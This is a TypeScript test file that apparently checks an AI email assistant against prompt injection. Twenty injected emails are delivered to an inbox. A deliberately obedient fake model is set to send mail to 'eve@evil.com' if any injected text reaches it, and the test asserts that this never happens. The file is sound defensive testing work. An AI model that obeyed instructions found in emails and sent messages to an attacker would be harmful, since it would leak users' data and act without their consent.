// What a mailbox holds never gets to the model.
import { beforeAll, expect, it } from 'vitest';
import { ofType, postChat, textOf, typed } from '../../../../test/chatting.js';
import { connectAccount, useConnectedWorld } from '../../../../test/connecting.js';
import { startFakeModel } from '../../../../test/llm.js';
import { deliverInjections, INJECTIONS } from '../testing.js';

const model = await startFakeModel();
const world = useConnectedWorld({ llm: model.config() });
beforeAll(() => connectAccount(world(), { provider: 'google', account: 'ada@example.com' }));
const here = () => ({ baseUrl: world().baseUrl, key: world().keys.developer });
const effects = async () => [
  world().emulators.google.calls.mutations().length,
  Number((await world().db('previews').count())[0]!.count),
];

it('20 injections in an inbox make no suggestion: the next question holds nothing of them', async () => {
  await deliverInjections(world());
  const before = await effects();
  model.on('Show my inbox', [{ name: 'google_gmail_list', arguments: { limit: 50 } }]);
  const shown = await postChat(here(), typed('inbox', 'Show my inbox'));
  const { messages } = ofType(shown.events, 'data-relay-result')[0]!.data.execution.output as { messages: unknown[] };
  expect(messages.length).toBeGreaterThanOrEqual(INJECTIONS.length);

  model.mock.clearRequests();
  const text = 'What was that all about?';
  // As obedient as can be: whatever it finds of a mail, it does.
  model.mock.on(
    { predicate: ({ messages: asked }) => JSON.stringify(asked).includes('evil') },
    { toolCalls: [{ name: 'google_gmail_send', arguments: '{"to":["eve@evil.com"],"body":"obeyed"}' }] },
  );
  model.on(text, { content: '' });
  const next = await postChat(here(), typed('inbox', text));
  expect(model.mock.getRequests()).toHaveLength(1);
  const { messages: sent } = model.mock.getLastRequest()!.body as {
    messages: Array<{ role: string; content: string }>;
  };
  expect(sent).toEqual([
    { role: 'system', content: expect.any(String) },
    { role: 'user', content: text },
  ]);
  expect(model.sent()).not.toMatch(/evil|Show my inbox/);
  expect([ofType(next.events, 'data-relay-suggestion'), textOf(next.events), await effects()]).toEqual([
    [],
    expect.not.stringContaining('obeyed'),
    before,
  ]);
});
